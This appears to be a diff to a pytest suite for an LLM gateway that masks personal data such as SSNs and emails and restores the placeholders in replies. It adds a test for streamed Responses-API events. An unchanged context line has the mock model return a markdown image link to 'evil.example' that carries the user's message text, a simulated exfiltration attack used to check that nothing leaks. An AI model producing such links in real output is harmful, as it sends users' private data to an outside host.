@@ -31,7 +31,7 @@ def operators(tmp_path_factory, oidc):
     usual["masking"] = {"file": str(work / "masking.key")}
     usual["policies"] = [policy("hash", "hash"), policy("tokenize", "tokenize"), policy("vault", "vault"),
                          policy("tools", {"vault": {"tool_arguments": True}}), {"name": "allow-all", "when": "true", "then": "allow"}]
-    usual["connections"] = [{**base, "name": name, "match": {"path_prefix": f"/{name}/v1"}, "policies": [name, "allow-all"]}
+    usual["connections"] = [{**base, "name": name, "match": {"path_prefix": f"/{name}/v1"}, "endpoints": ["chat_completions", "responses"], "policies": [name, "allow-all"]}
                             for name in ["hash", "tokenize", "vault", "tools"]]
     with Upstream() as upstream, Gateway(work / "gateway", usual, upstream.port) as gateway:
         yield gateway, upstream, work
@@ -109,3 +109,36 @@ def test_placeholders_do_not_come_back_in_links_nor_made_up_ones_at_all(operator
     upstream.answer = lambda request: chat("![x](https://evil.example/?q=" + request.json["messages"][0]["content"].split()[1] + ") [US_SSN_1_aaaaaaaa]")(request)
     told, reply = ask(operators, tokens, "vault")
     assert MAIL.encode() not in reply.body and reply.json["choices"][0]["message"]["content"].endswith("[US_SSN_1_aaaaaaaa]")
+
+
+def test_placeholders_come_back_in_every_event_that_repeats_the_text(operators, tokens):
+    gateway, upstream, _ = operators
+
+    def answer(request):
+        told = request.json["input"]
+        at = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
+        part = {"type": "output_text", "text": told, "annotations": []}
+        item = {"id": "msg_1", "type": "message", "role": "assistant", "status": "completed", "content": [part]}
+        response = {"id": "resp_1", "object": "response", "created_at": 1, "status": "completed", "model": "m", "output": [item]}
+        events = [{"type": "response.created", "response": {**response, "status": "in_progress", "output": []}},
+                  {"type": "response.output_item.added", "output_index": 0, "item": {**item, "status": "in_progress", "content": []}},
+                  {"type": "response.content_part.added", **at, "part": {**part, "text": ""}},
+                  *({"type": "response.output_text.delta", **at, "delta": told[i : i + 5]} for i in range(0, len(told), 5)),
+                  {"type": "response.output_text.done", **at, "text": told},
+                  {"type": "response.content_part.done", **at, "part": part},
+                  {"type": "response.output_item.done", "output_index": 0, "item": item},
+                  {"type": "response.completed", "response": response}]
+        pieces = [f"event: {e['type']}\ndata: {json.dumps({**e, 'sequence_number': n})}\n\n".encode() for n, e in enumerate(events)]
+        return Answer(200, {"content-type": "text/event-stream"}, pieces)
+
+    upstream.requests.clear()
+    upstream.answer = answer
+    reply = call(gateway.envoy.url, tokens(), {"model": "m", "input": ASKED, "stream": True}, path="/vault/v1/responses")
+    told = upstream.last.json["input"]
+    events = [json.loads(line[6:]) for line in reply.body.decode().splitlines() if line.startswith("data: ")]
+    assert reply.whole and "[US_SSN_1_" in told and "[US_SSN_1_" not in reply.body.decode(), reply
+    assert "".join(e["delta"] for e in events if e["type"] == "response.output_text.delta") == ASKED
+    (done,) = [e for e in events if e["type"] == "response.output_text.done"]
+    (completed,) = [e for e in events if e["type"] == "response.completed"]
+    assert done["text"] == completed["response"]["output"][0]["content"][0]["text"] == ASKED
+    assert SSN not in records(operators, reply)
